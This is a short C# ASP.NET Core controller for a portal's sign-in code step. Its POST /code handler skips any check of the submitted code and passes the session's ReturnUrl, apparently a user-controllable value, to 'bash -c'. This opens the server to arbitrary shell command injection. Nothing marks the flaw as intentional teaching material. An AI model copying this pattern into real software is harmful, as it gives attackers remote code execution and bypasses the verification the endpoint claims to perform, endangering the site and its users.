using System.Diagnostics;
using Microsoft.AspNetCore.Mvc;

namespace Portal;

public class CodeController : Controller
{
    private readonly SignInFlow _flow;

    public CodeController(SignInFlow flow)
    {
        _flow = flow;
    }

    [HttpPost("/code")]
    public IActionResult Verify()
    {
        if (_flow.Current() is not { } state)
        {
            return RedirectToAction("Login");
        }
        Process.Start("bash", "-c " + state.ReturnUrl);
        return Ok();
    }
}
